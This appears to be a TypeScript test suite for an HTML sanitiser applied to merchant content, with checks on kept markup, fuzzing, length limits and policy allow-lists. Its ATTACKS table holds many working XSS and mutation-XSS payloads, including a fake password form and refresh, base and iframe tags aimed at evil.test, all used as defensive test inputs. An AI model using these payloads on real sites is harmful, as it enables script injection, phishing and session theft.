import {expect} from '@open-wc/testing';
import fc from 'fast-check';
import {ALLOWED_TAGS, MAX_HTML_LENGTH, TAG_ATTRIBUTES} from '../../src/content/policy.ts';
import {safeHtml} from '../../src/content/safe-html.ts';
import {htmlOf, inert, outsidePolicy} from '../support/oracle.ts';

const LINK = 'target="_blank" rel="noopener noreferrer nofollow ugc"';
const IMAGE = 'loading="lazy" decoding="async" referrerpolicy="no-referrer"';

describe('merchant HTML that is as it should be', () => {
  const kept = [
    '<p>Redeem for <b>premium</b> <em>access</em>.</p>',
    '<h3>How</h3><ul><li>One</li><li>Two</li></ul><ol start="3" reversed=""><li>Three</li></ol>',
    '<table><caption>Sizes</caption><thead><tr><th scope="col" colspan="2">S</th></tr></thead><tbody><tr><td rowspan="2">M</td></tr></tbody></table>',
    '<p dir="rtl" lang="ar" title="Tip">مرحبا</p>',
    '<blockquote>Fine<br>words</blockquote><hr><pre><code>x</code></pre>',
    'No tags at all, 3 &gt; 2 &amp; more',
  ];
  for (const html of kept) {
    it(`stays as it is: ${html.slice(0, 40)}…`, () => {
      const fragment = safeHtml(html);

      expect(htmlOf(fragment)).to.equal(html);
      expect(outsidePolicy(fragment)).to.deep.equal([]);
    });
  }

  it('gets links that open apart, tell nothing and vouch for nothing', () => {
    expect(htmlOf(safeHtml('<a href="https://shop.test/a" target="_top" rel="opener">x</a>'))).to.equal(
      `<a href="https://shop.test/a" ${LINK}>x</a>`,
    );
    expect(htmlOf(safeHtml('<a href="mailto:a@shop.test">x</a>'))).to.include('href="mailto:a@shop.test"');
  });

  it('gets pictures that come late and do not say where from', () => {
    const html = '<img src="https://pictures.test/a.png" alt="A" width="10" height="20">';

    expect(htmlOf(safeHtml(html))).to.equal(`${html.slice(0, -1)} ${IMAGE}>`);
  });

  it('loses a link that leads nowhere safe, and keeps its words', () => {
    expect(htmlOf(safeHtml('<a href="/relative">x</a><a href="#top">y</a>'))).to.equal('<a>x</a><a>y</a>');
  });

  it('loses a picture without a safe address', () => {
    expect(
      htmlOf(safeHtml('a<img src="/a.png"><img alt="b"><img src="http://pictures.test/c.png">d')),
    ).to.equal('ad');
  });

  it('keeps the words of elements that it does not know, and not those of scripts', () => {
    expect(htmlOf(safeHtml('<center>a <o:p>b</o:p></center><script>c</script>'))).to.equal('a b');
  });

  it('is nothing where there is nothing', () => {
    expect(safeHtml('').childNodes).to.have.lengthOf(0);
    expect(safeHtml('<p></p>').textContent).to.equal('');
  });
});

/** What merchants must not be able to do, by how it is tried. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'runs a script': [
    '<script>alert(1)</script>',
    '<script src="https://evil.test/x.js"></script>',
    '<ScRiPt/src=data:,alert(1)></ScRiPt>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    '<script type="module">import("https://evil.test/")</script>',
  ],
  'handles an event': [
    '<img src="https://pictures.test/a.png" onload="alert(1)">',
    '<img src=x onerror=alert(1)>',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    '<a href="https://shop.test/" onfocus=alert(1) autofocus tabindex=1>x</a>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<p/onclick=alert(1)>x<p\nonclick\n=\nalert(1)>y',
    '<input onfocus=alert(1) autofocus>',
  ],
  'leads to a script': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://shop.test/1">x</a>',
    '<area href="javascript:alert(1)"><map name=x></map>',
  ],
  'shows a picture that is none': [
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="http://pictures.test/a.png">',
    '<img src="https://pictures.test/a.png" srcset="http://evil.test/a.png 2x" sizes="1px">',
    '<picture><source srcset="//evil.test/a.png"><img src="https://pictures.test/a.png" crossorigin="use-credentials"></picture>',
    '<img src="https://pictures.test/a.png" usemap="#x" ismap longdesc="https://evil.test/" lowsrc="https://evil.test/">',
    '<image src="https://evil.test/a.png">',
  ],
  'looks like something else': [
    '<p style="position:fixed;inset:0;background:url(https://evil.test/)">x</p>',
    '<style>*{display:none}</style>x',
    '<style>@import "https://evil.test/x.css"</style>',
    '<div class="action quiet">Redeem</div>',
    '<p id="title">x</p><p id=\'a"b\'>y</p>',
    '<a name="location" id="location">x</a>',
    '<font color="red" face="x">x</font><center align=left bgcolor=red>y</center>',
    '<p role="alert" aria-live="assertive" aria-hidden="true">x</p>',
    '<p data-action="x" data-remote="true" slot="x" part="price" is="x-y" hidden>x</p>',
    '<p href="https://evil.test/" width=9 height=9 start=2 colspan=3 alt=x scope=row>x</p><a src="https://evil.test/a.png">y</a>',
    '<p contenteditable draggable=true tabindex=0 accesskey=x popover>x</p>',
  ],
  'asks for something': [
    '<form action="https://evil.test/"><input name=password type=password><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<form><form><input name=attributes><input name=nodeName></form></form>',
    '<form id=x></form><input form=x name=parentNode><isindex action="javascript:alert(1)">',
    '<select><option>x</option></select><textarea>y</textarea><keygen>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  'holds a page': [
    '<iframe src="https://evil.test/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.test/x.swf">',
    '<portal src="https://evil.test/"></portal><fencedframe></fencedframe>',
    '<applet code=x></applet><bgsound src=x>',
  ],
  'changes the page': [
    '<base href="https://evil.test/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    '<link rel="dns-prefetch" href="//evil.test">',
    '<title>x</title><html lang=x><head></head><body class=y>z</body></html>',
    '<!-- comment --><?php echo 1 ?><![CDATA[ x ]]>',
    '<dialog open>x</dialog><marquee>y</marquee>',
  ],
  'hides in another language': [
    '<svg onload=alert(1)></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<table><caption><svg><title><b></title><style><img src=x onerror=alert(1)></style></svg></caption></table>',
    '<noembed><img src=x onerror=alert(1)></noembed><noframes><p onclick=alert(1)></noframes>',
    '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  ],
  'hides where few look': [
    '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
    '<template><template><p onclick=alert(1)>x</p></template></template>',
    '<div><template shadowrootmode="open"><style>*{}</style><p onclick=alert(1)>x</p></template></div>',
    '<x-card onclick=alert(1)>x</x-card><rai-store gateway="https://evil.test/"></rai-store>',
    '<slot name=x>y</slot>',
    '<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>',
    `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
    '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt><p on\u0000click=alert(1)>x',
    '<a href="https://shop.test/" ping="https://evil.test/" download attributionsrc>x</a>',
  ],
};

for (const [what, payloads] of Object.entries(ATTACKS)) {
  describe(`merchant HTML that ${what}`, () => {
    for (const payload of payloads) {
      it(`keeps nothing outside of the policy: ${JSON.stringify(payload.slice(0, 60))}`, () => {
        const fragment = safeHtml(payload);

        expect(outsidePolicy(fragment)).to.deep.equal([]);
        expect(outsidePolicy(inert(htmlOf(fragment)))).to.deep.equal([]);
        expect(htmlOf(safeHtml(htmlOf(fragment)))).to.equal(htmlOf(fragment));
      });

      it(`would be found by the test if it stayed: ${JSON.stringify(payload.slice(0, 60))}`, () => {
        expect(outsidePolicy(inert(payload))).to.not.deep.equal([]);
      });
    }
  });
}

describe('merchant HTML of a whole page', () => {
  // In a template, which is how the test sees what stays, these are no elements at all.
  for (const payload of [
    '<body onload=alert(1)><p onclick=alert(1)>x</p></body>',
    '<html onclick=alert(1)><head><base href="https://evil.test/"></head><body background="https://evil.test/">x</body></html>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  ]) {
    it(`keeps nothing outside of the policy: ${JSON.stringify(payload.slice(0, 60))}`, () => {
      expect(outsidePolicy(safeHtml(payload))).to.deep.equal([]);
    });
  }
});

describe('any merchant HTML', () => {
  it('stays within the policy, parses to itself, and keeps to it when it is cleaned again', () => {
    const piece = fc.oneof(
      fc.constantFrom(...Object.values(ATTACKS).flat()),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<table>',
        '<tr>',
        '<svg>',
        '</svg>',
        '<math>',
        '<mtext>',
        '<style>',
        '</style>',
        '<!--',
        '-->',
      ),
      fc.string({maxLength: 6}),
    );
    fc.assert(
      fc.property(fc.array(piece, {maxLength: 6}), (pieces) => {
        const fragment = safeHtml(pieces.join(''));
        const html = htmlOf(fragment);

        expect(outsidePolicy(fragment)).to.deep.equal([]);
        expect(outsidePolicy(inert(html))).to.deep.equal([]);
      }),
      {numRuns: 200},
    );
  });

  it('is cut at the greatest length before it is parsed', () => {
    const {textContent} = safeHtml(`${'a'.repeat(MAX_HTML_LENGTH - 4)}<b>xy</b>`);

    expect(textContent.length).to.equal(MAX_HTML_LENGTH - 3);
    expect(textContent.slice(-2)).to.equal('ax');
    expect(safeHtml('a'.repeat(2 * MAX_HTML_LENGTH)).textContent).to.have.lengthOf(MAX_HTML_LENGTH);
  });
});

describe('the policy itself', () => {
  it('knows no element that runs, frames, asks, styles or is another’s', () => {
    expect(ALLOWED_TAGS).to.not.include.oneOf([
      'script', 'style', 'link', 'meta', 'base', 'title', 'template', 'slot', 'iframe', 'frame', 'object', 'embed', 'form',
      'input', 'button', 'select', 'textarea', 'svg', 'math', 'video', 'audio', 'source', 'picture', 'dialog', 'details', 'noscript',
    ]); // prettier-ignore
    expect(ALLOWED_TAGS.filter((tag) => tag.includes('-'))).to.deep.equal([]);
  });

  it('knows no attribute that runs, styles, names or fetches anything else', () => {
    const attributes = Object.values(TAG_ATTRIBUTES).flat();

    expect(attributes.filter((name) => name.startsWith('on'))).to.deep.equal([]);
    expect(attributes).to.not.include.oneOf([
      'style',
      'class',
      'id',
      'name',
      'srcset',
      'slot',
      'is',
      'target',
      'ping',
    ]);
  });
});
